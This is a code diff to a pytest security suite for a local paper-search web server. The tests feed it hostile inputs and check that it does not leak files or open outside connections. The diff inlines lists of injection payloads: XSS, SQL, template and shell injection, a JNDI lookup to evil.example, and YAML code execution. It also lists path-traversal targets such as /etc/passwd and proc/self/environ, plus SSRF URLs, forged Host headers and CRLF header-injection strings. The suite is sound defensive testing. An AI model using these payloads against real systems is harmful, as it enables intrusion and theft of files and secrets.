@@ -2,9 +2,7 @@
 
 from __future__ import annotations
 
-import json
 import socket
-import threading
 from collections.abc import Callable, Iterator
 from pathlib import Path
 
@@ -13,13 +11,43 @@ import pytest
 pytest.importorskip("torch", reason="pip install 'citeweave[minilm]'")
 pytest.importorskip("fastapi", reason="pip install 'citeweave[serve]'")
 
-from citeweave.corpus.corpus import Corpus
-from citeweave.corpus.ingest import import_papers
-from citeweave.search.build import IndexOptions, build_index
-
 from .counting import Trial
-from .payloads import ALL, PLACES
 from .serving import Heard, Served, get, post, served, within
+
+PAYLOADS: dict[str, list[str]] = {
+    "scripts": [
+        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)",
+        "<iframe srcdoc='<script>alert(1)</script>'>", "</title><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>",
+        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "'-alert(1)-'", "\\u003cscript\\u003ealert(1)",
+        "&lt;script&gt;alert(1)&lt;/script&gt;", "<math><mtext></p><img src=x onerror=alert(1)>", "]]><script>alert(1)</script>",
+        "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<style>@import'//evil.example'</style>", "<base href=//evil.example/>",
+        "<meta http-equiv=refresh content='0;url=//evil.example'>", "\u2028alert(1)\u2029", "＜script＞alert(1)＜/script＞",
+    ],
+    "databases": [
+        "'; DROP TABLE papers; --", "\" OR \"1\"=\"1", "1 UNION SELECT NULL, version()", "admin'/*", "{\"$ne\": null}",
+        "*)(uid=*))(|(uid=*", "' AND SLEEP(5) --", "1; ATTACH DATABASE '/tmp/x' AS x",
+    ],
+    "templates and shells": [
+        "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.__class__.__init__.__globals__}}", "$(touch /tmp/x)", "`id`",
+        "; cat /etc/passwd", "| id", "${jndi:ldap://evil.example/a}", "=cmd|' /C calc'!A0", "%s%n%x",
+        "__import__('os').system('id')", "!!python/object/apply:os.system ['id']", "\\input{/etc/passwd}",
+    ],
+    "headers": ["a\r\nSet-Cookie: x=y", "a\nLocation: //evil.example", "a%0d%0aSet-Cookie: x=y", "a\r\n\r\n<script>alert(1)</script>"],
+    "signs": [
+        "a\x00b", "\u202egnp.exe", "\ufeffbom", "\x1b[31mred\x1b[0m", "İıſK\u0130", "e\u0301" * 50, "\U0010ffff", "😀" * 60,
+        "\u200b\u200d\u2060", "ａｄｍｉｎ", "..\u2215..\u2215etc", "Z\u0338\u0321\u0353\u0324" * 20, "%c0%ae%c0%ae/", "\\x3cscript\\x3e",
+    ],
+}  # fmt: skip
+
+ALL = [(kind, text) for kind, texts in PAYLOADS.items() for text in texts]
+
+PLACES = [
+    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "....//....//etc/passwd", "/etc/passwd",
+    "..\\..\\etc\\passwd", "%252e%252e%252fetc%252fpasswd", "page/../../../pyproject.toml", "page/%2e%2e/%2e%2e/app.py",
+    "page/..%5c..%5capp.py", "file:///etc/passwd", ".git/config", "index/state.json", "..;/etc/passwd", "%c0%ae%c0%ae/etc/passwd",
+    "etc/passwd%00.html", "page/index.html%00.py", "proc/self/environ", "~root/.bashrc", "page//etc/passwd",
+]  # fmt: skip
+"""Paths that lead to files which are nobody's business."""
 
 JSON_ROUTES = (
     "/papers/{}", "/papers?id={}", "/search?by=words&q={}", "/suggest?q={}", "/similar?paper={}", "/search?by=words&q=models&aspect={}",
@@ -30,24 +58,15 @@ PAGES = ("/?q={}", "/?view=paper&id={}", "/docs?x={}")
 
 
 @pytest.fixture(scope="module")
-def index(tmp_path_factory: pytest.TempPathFactory, save_bert: Callable[..., Path]) -> Path:
-    """Papers whose titles, abstracts, authors and venues are payloads."""
+def server(index_of: Callable[..., Path], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
+    """Papers whose titles, abstracts, authors and venues are payloads, each cites the next."""
     folder = tmp_path_factory.mktemp("hostile")
     papers = [
-        {"id": f"p:{row}", "title": f"{text} models", "abstract": f"{text} learn. Data {row}.", "authors": [text], "venue": text, "year": 2000}
+        {"id": f"p:{row}", "title": f"{text} models", "abstract": f"{text} learn. Data {row}.", "authors": [text], "venue": text, "year": 2000,
+         "references": [f"p:{row + 1}"] * (row + 1 < len(ALL))}
         for row, (_, text) in enumerate(ALL)
     ]  # fmt: skip
-    (folder / "papers.jsonl").write_text("".join(json.dumps(paper) + "\n" for paper in papers))
-    (folder / "citations.tsv").write_text("".join(f"p:{row}\tp:{row + 1}\n" for row in range(len(ALL) - 1)))
-    import_papers([folder / "papers.jsonl", folder / "citations.tsv"], folder / "corpus")
-    options = IndexOptions(device="cpu", sentences=True)
-    build_index(Corpus.open(folder / "corpus"), save_bert(folder / "model"), folder / "index", options)
-    return folder / "index"
-
-
-@pytest.fixture(scope="module")
-def server(index: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
-    with served(index, tmp_path_factory.mktemp("log") / "log", "--time-limit", "5") as one:
+    with served(index_of(folder, papers, sentences=True), folder / "log", "--time-limit", "5") as one:
         yield one
 
 
@@ -108,30 +127,15 @@ def test_paths_that_lead_elsewhere(trial: Trial, server: Served) -> None:
                 assert b"[project]" not in heard.body and b"citeweave-index" not in heard.body
 
 
-class Listener:
-    """Somebody on this machine whom the server has no reason to speak to."""
-
-    def __init__(self) -> None:
-        self.socket = socket.create_server(("127.0.0.1", 0))
-        self.port, self.heard = self.socket.getsockname()[1], 0
-        threading.Thread(target=self._listen, daemon=True).start()
-
-    def _listen(self) -> None:
-        while True:
-            try:
-                self.socket.accept()[0].close()
-            except OSError:
-                return
-            self.heard += 1
-
-
 def test_requests_that_would_make_it_fetch(trial: Trial, server: Served) -> None:
-    listener = Listener()
-    here = f"127.0.0.1:{listener.port}"
+    listener = socket.create_server(("127.0.0.1", 0))
+    listener.setblocking(False)
+    port = listener.getsockname()[1]
+    here = f"127.0.0.1:{port}"
     names = [
         f"http://{here}/a", f"https://{here}/a", f"//{here}/a", f"doi:10.1/../http://{here}/a", f"https://doi.org@{here}/10.1/a",
-        f"ftp://{here}/a", f"gopher://{here}/_a", f"file://{here}/etc/passwd", f"s3://{here}/a", f"http://localhost:{listener.port}/",
-        f"http://0x7f000001:{listener.port}/", f"http://2130706433:{listener.port}/", f"http://[::ffff:127.0.0.1]:{listener.port}/",
+        f"ftp://{here}/a", f"gopher://{here}/_a", f"file://{here}/etc/passwd", f"s3://{here}/a", f"http://localhost:{port}/",
+        f"http://0x7f000001:{port}/", f"http://2130706433:{port}/", f"http://[::ffff:127.0.0.1]:{port}/",
         f"ldap://{here}/a", f"{here}/a", f"owner/name@http://{here}",
     ]  # fmt: skip
     for name in names:
@@ -147,9 +151,9 @@ def test_requests_that_would_make_it_fetch(trial: Trial, server: Served) -> None
             assert server.ask(forwarded).status == 200
             connect = f"CONNECT {here} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode()
             assert 400 <= server.ask(connect).status < 500
-            assert not listener.heard, "the server opened a connection"
-    listener.socket.close()
-    socket.create_connection(("127.0.0.1", server.port)).close()
+            with pytest.raises(BlockingIOError):  # nobody came
+                listener.accept()
+    listener.close()
 
 
 FOREIGN = [
@@ -157,13 +161,10 @@ FOREIGN = [
     ("Sec-Fetch-Site: same-site",), ("Origin: http://localhost:1",), ("Origin: http://localhost", "Origin: http://evil.example"),
     ("Origin: http://localhost", "Sec-Fetch-Site: cross-site"),
 ]  # fmt: skip
-FORMS = [
-    "text/plain",
-    "application/x-www-form-urlencoded",
-    "multipart/form-data; boundary=a",
-    "text/plain; application/json",
-    "",
-]
+FORMS = (
+    "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=a", "text/plain; application/json", "",
+)  # fmt: skip
+HOSTS = ("evil.example", "localhost.evil.example", "127.0.0.1.nip.io", "localhost@evil.example", "[::1", "a b", "")
 
 
 def test_requests_of_other_sites(trial: Trial, server: Served) -> None:
@@ -179,15 +180,7 @@ def test_requests_of_other_sites(trial: Trial, server: Served) -> None:
                 heard = server.ask(post(route, body, kind=kind))
                 heard.check_safe()
                 assert heard.status == 415
-    for host in (
-        "evil.example",
-        "localhost.evil.example",
-        "127.0.0.1.nip.io",
-        "localhost@evil.example",
-        "[::1",
-        "a b",
-        "",
-    ):
+    for host in HOSTS:
         with trial.attempt(f"Host {host!r}"):
             assert server.ask(get("/health").replace(b"Host: localhost", f"Host: {host}".encode())).status == 400
     for method in ("PUT", "DELETE", "PATCH", "TRACE", "PROPFIND"):
@@ -197,15 +190,7 @@ def test_requests_of_other_sites(trial: Trial, server: Served) -> None:
 
 
 def test_headers_that_would_become_others(trial: Trial, server: Served) -> None:
-    breaks = [
-        "%0d%0aX-Evil: 1",
-        "%0aX-Evil: 1",
-        "%0dX-Evil: 1",
-        "%E5%98%8A%E5%98%8DX-Evil: 1",
-        "%u000d%u000aX-Evil: 1",
-        "\x85X-Evil: 1",
-    ]
-    for text in breaks:
+    for text in (f"{sign}X-Evil: 1" for sign in ("%0d%0a", "%0a", "%0d", "%E5%98%8A%E5%98%8D", "%u000d%u000a", "\x85")):
         for route in (*JSON_ROUTES, *PAGES):
             with trial.attempt(f"{route} {text!r}"):
                 heard = server.ask(get(route.format(text.replace(" ", "%20").replace("\x85", "%85"))))
@@ -223,10 +208,7 @@ def test_limits_of_a_request(trial: Trial, server: Served) -> None:
     large = b'{"text": "' + b"a" * 2**21 + b'"}'
     tried = {
         "a body of 2 MiB": (post("/search", large), {413}),
-        "a body that says it has 99 TB": (
-            post("/search", b"{}").replace(b"Length: 2", b"Length: 99999999999999"),
-            {413},
-        ),
+        "a body that says it has 99 TB": (post("/search", b"{}").replace(b"Length: 2", b"Length: 99999999999999"), {413}),
         "2 MiB in chunks": (chunks + (b"10000\r\n" + b"a" * 65_536 + b"\r\n") * 33, {413}),
         "an address of 9,000 bytes": (get(f"/search?q={'a' * 9000}"), {414}),
         "headers of 20,000 bytes": (get("/health", *(f"X-{n}: {'a' * 400}" for n in range(45))), {431}),
@@ -237,7 +219,7 @@ def test_limits_of_a_request(trial: Trial, server: Served) -> None:
         "ten thousand texts": (post("/embed", {"texts": ["a"] * 10_000}), {422}),
         "two lengths": (post("/search", b"{}", "Content-Length: 3"), {400}),
         "length and chunks": (post("/search", b"{}", "Transfer-Encoding: chunked"), {400}),
-    }
+    }  # fmt: skip
     for what, (data, statuses) in tried.items():
         with trial.attempt(what):
             heard = server.ask(data)
